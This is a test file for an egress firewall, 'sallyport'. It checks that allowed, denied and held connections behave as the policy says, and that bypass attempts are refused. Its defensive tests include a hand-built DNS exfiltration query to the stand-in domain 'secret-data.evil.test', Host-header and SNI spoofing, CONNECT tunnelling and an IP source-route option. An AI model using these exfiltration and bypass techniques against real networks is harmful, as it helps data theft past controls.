/**
 * A network that the firewall shares: `sallyport redirect` and `serve --transparent`, real clients with nothing to
 * configure in them, and a world on the other end of a wire that tells what reached it. Takes root: it needs two users.
 */
import t from 'tap'
import { POD, WORLD, openPod } from '../helpers/pod.ts'
import type { AuditRecord, PolicyDocument } from '../../lib/index.ts'

const POLICY: PolicyDocument = {
  version: 1,
  unmatched: 'deny',
  rules: [
    { id: 'open', host: 'open.test', scheme: ['http', 'https'], port: [80, 443], private: true },
    { id: 'ask', action: 'hold', host: 'ask.test', scheme: ['http', 'https'], port: [80, 443], private: true },
    { id: 'ask-db', action: 'hold', host: 'db.test', scheme: 'tcp', port: 5432, private: true },
    { id: 'literal', cidr: ['10.99.0.2/32', 'fd99::2/128'], scheme: 'http', port: 80, private: true },
  ],
}
const STATUS = ['curl', '-sS', '-o', '/dev/null', '-w', '%{http_code}', '-m', '20'] as const

t.test('a shared network, led through the firewall', { timeout: 120_000, skip: process.getuid?.() === 0 ? false : 'two users take root' }, async t => {
  const pod = await openPod(t, POLICY)
  const reached = (): readonly string[] => pod.seen.flatMap(({ request }) => request === undefined ? [] : [String(request)])

  await t.test('curl, python and node go by name: allowed, denied, and held until somebody approves', async t => {
    const node = (host: string): readonly string[] => [process.execPath, '-e', `fetch('https://${host}.test/').then(r => console.log(r.status), e => console.log(e.cause))`]
    const python = (host: string): readonly string[] => ['python3', '-c', `import urllib.request, urllib.error\ntry: print(urllib.request.urlopen("https://${host}.test/").status)\nexcept urllib.error.HTTPError as e: print(e.code)`]
    for (const [name, client] of [['curl', (host: string) => [...STATUS, `https://${host}.test/`]], ['python', python], ['node', node]] as const) {
      t.match(await pod.inside(...client('open')), { stdout: /^200/ }, `${name}, allowed`)
      t.match(await pod.inside(...client('shut')), { stdout: /^403/ }, `${name}, denied`)
      const before = reached().length
      const held = pod.inside(...client('ask'))
      const question = await pod.question()
      t.equal(reached().length, before, 'nothing has reached the world yet')
      t.match(await pod.sallyport('approve', question, '--once'), { status: 0 })
      t.match(await held, { stdout: /^200/ }, `${name}, held and approved`)
    }
    t.match(await pod.inside(...STATUS, 'http://open.test/'), { stdout: '200' }, 'in the clear')
    t.strictSame([...new Set(reached())].sort(), ['GET ask.test/', 'GET open.test/'])
  })

  await t.test('who asks for one name and claims another is refused', async t => {
    const endings = (): readonly AuditRecord[] => pod.records().filter(({ event }) => event === 'closed')
    const before = reached().length
    t.match(await pod.inside(...STATUS, '--connect-to', 'open.test:443:shut.test:443', 'https://open.test/'), { stdout: '000' })
    t.match(await pod.inside(...STATUS, '-k', '--connect-to', 'open.test:443:shut.test:443', 'https://open.test/'), { stdout: '421' })
    t.match(await pod.inside(...STATUS, '-k', '--connect-to', `open.test:443:${WORLD[1]}:443`, 'https://open.test/'), { stdout: '421' }, 'nor does an address become a name by being claimed to be one')
    t.match(await pod.inside(...STATUS, '-H', 'Host: open.test', 'http://shut.test/'), { stdout: '421' })
    t.match(await pod.inside(...STATUS, '--proxytunnel', '-x', 'http://open.test:80', 'https://shut.test/'), { stdout: '000' }, 'and a CONNECT is no request')
    t.equal(reached().length, before)
    // A client may know that its connection has ended before the file does.
    while (endings().at(-1)?.code !== 'method_refused') await new Promise(setImmediate)
    const closed = endings().slice(-5)
    t.match(closed.map(({ host }) => host), ['shut.test', 'shut.test', WORLD[1], 'shut.test', 'open.test'])
    t.match(closed[0], { reason: /its SNI named another host/ }, 'a client that verifies us ends it by itself')
    t.strictSame(closed.slice(1).map(({ code }) => code), ['misdirected', 'misdirected', 'misdirected', 'method_refused'])
  })

  await t.test('an address without a name needs a rule for addresses', async t => {
    t.match(await pod.inside(...STATUS, `http://${WORLD[0]}/`), { stdout: '403' })
    t.match(await pod.inside(...STATUS, `http://[${WORLD[2]}]/`), { stdout: '403' }, 'also in IPv6')
    for (const address of [WORLD[1], `[${WORLD[3]}]`]) t.match(await pod.inside(...STATUS, `http://${address}/`), { stdout: '200' }, address)
    t.match(await pod.inside(...STATUS, 'http://198.19.255.1/'), { stdout: '000' }, 'one of ours that was never given out goes nowhere')
  })

  await t.test('a server that speaks first waits for the answer, and then speaks', async t => {
    const held = pod.python('s = socket.create_connection(("db.test", 5432)); print(s.recv(99)); s.sendall(b"select 1"); print(s.recv(99))')
    const question = await pod.question()
    t.match(await pod.sallyport('pending'), { stdout: /db\.test:5432/ })
    t.notOk(pod.seen.some(({ stream }) => stream !== undefined), 'nothing was relayed')
    t.match(await pod.sallyport('approve', question, '--once'), { status: 0 })
    t.match(await held, { stdout: 'b\'hello from the database\\n\'\nb\'select 1\'\n' })
    t.match(await pod.python(`s = socket.create_connection(("${WORLD[0]}", 5432)); print(s.recv(99))`), { stdout: 'b\'\'\n' }, 'by its address it is closed')
  })

  await t.test('whatever is not TCP is rejected at once', async t => {
    const { stdout } = await pod.python(`
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.IPPROTO_IP, 4, b"\\x83\\x07\\x04" + socket.inet_aton("127.0.0.1") + b"\\0")
try: s.sendto(b"by way of loopback", ("${WORLD[0]}", 9999)); print("sent")
except Exception as e: print(type(e).__name__, True)
for family, to in [(socket.AF_INET, "${WORLD[0]}"), (socket.AF_INET6, "${WORLD[2]}")]:
  s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(5); s.connect((to, 9999)); began = time.time()
  try: s.send(b"out"); s.recv(9)
  except Exception as e: print(type(e).__name__, time.time() - began < 1)`)
    t.match(stdout, /^(?:(?:ConnectionRefusedError|PermissionError) True\n){3}$/)
    t.notOk(pod.seen.some(({ datagram }) => datagram !== undefined), 'nothing reached the world')
  })

  await t.test('nothing leaves by names, whatever resolver is asked', async t => {
    const { stdout, output } = await pod.python(`
import struct
def ask(family, to, name, kind):
  q = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\\0" + struct.pack(">HH", kind, 1)
  s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(q, (to, 53)); a = s.recv(512)
  return a[3] & 15, ".".join(map(str, a[-4:])) if len(a) > len(q) else ""
for family, to in [(socket.AF_INET, "${WORLD[0]}"), (socket.AF_INET, "127.0.0.11"), (socket.AF_INET6, "${WORLD[2]}")]: print(*ask(family, to, "secret-data.evil.test", 1))
print(*ask(socket.AF_INET, "${WORLD[0]}", "secret-text.evil.test", 16))
print(socket.gethostbyaddr(socket.gethostbyname("secret-data.evil.test"))[0])`)
    t.match(stdout, /^(0 198\.1[89]\.\d+\.\d+)\n\1\n\1\n5 \nsecret-data\.evil\.test\n$/, output)
    t.strictSame(pod.seen.filter(({ datagram }) => datagram !== undefined), [])
    const told = await pod.recorded(1, ({ event, details }) => event === 'notice' && details?.['name'] === 'secret-text.evil.test' && details['type'] === 'TXT')
    t.ok(told.length > 0, 'what was refused is in the log')
  })

  await t.test('the doors are no way in, and loopback stays shared', async t => {
    const refused = /^(?:(?:ConnectionRefusedError|ConnectionResetError|closed)\n)+$/
    t.match(await pod.python(`
for family, to in [(socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "127.0.0.11"), (socket.AF_INET6, "::1")]:
  try:
    s = socket.socket(family); s.settimeout(5); s.connect((to, 15001)); s.sendall(b"GET http://open.test/ HTTP/1.1\\r\\nHost: open.test\\r\\n\\r\\n"); print("closed" if s.recv(99) == b"" else "answered")
  except Exception as e: print(type(e).__name__)`), { stdout: refused })
    t.match(await pod.outside(`
for to in ${JSON.stringify(POD)}:
  try: s = socket.create_connection((to, 15001), 5); s.settimeout(5); s.sendall(b"GET / HTTP/1.1\\r\\nHost: open.test\\r\\n\\r\\n"); print("closed" if s.recv(99) == b"" else "answered")
  except Exception as e: print(type(e).__name__)`), { stdout: refused }, 'who comes from outside was not redirected')
    const refusals = await pod.recorded(POD.length, ({ event, code, reason }) => event === 'closed' && code === 'address_forbidden' && reason?.includes('was not redirected') === true)
    t.equal(refusals.length, POD.length)
    t.match(await pod.python('l = socket.create_server(("127.0.0.1", 8000)); s = socket.create_connection(("127.0.0.1", 8000)); print(l.accept()[0].send(b"x"), s.recv(1))'), { stdout: '1 b\'x\'\n' })
  })

  await t.test('what is sent is what was judged, to an address that was resolved after it', async t => {
    t.match(await pod.inside(...STATUS, '--path-as-is', 'https://open.test/a%2Fb/%7e?q=%20&q='), { stdout: '200' })
    t.equal(reached().at(-1), 'GET open.test/a%2Fb/%7e?q=%20&q=')
    t.match(await pod.recorded(1, ({ event, path }) => event === 'closed' && path?.startsWith('/a%2Fb') === true), [{ host: 'open.test', port: 443, rule: 'open', address: WORLD[0] }])
  })

  await t.test('each flow has one closing record, in a log that holds together', async t => {
    const closed = pod.records().flatMap(({ event, flow }) => event === 'closed' ? [flow] : [])
    t.equal(new Set(closed).size, closed.length)
    t.ok(closed.length > 20)
    t.ok(pod.records().every(({ event, client }) => event === 'notice' || client === 'sandbox'))
  })

  await t.test('when the firewall is killed the network stays closed', async t => {
    const before = pod.seen.length
    await pod.stop()
    t.match(await pod.inside(...STATUS, '--resolve', `open.test:443:${WORLD[0]}`, 'https://open.test/'), { stdout: '000', output: /refused|Couldn't connect/ })
    t.match(await pod.inside(...STATUS, '-m', '5', 'https://open.test/'), { stdout: '000' })
    t.equal(pod.seen.length, before)
  })
})
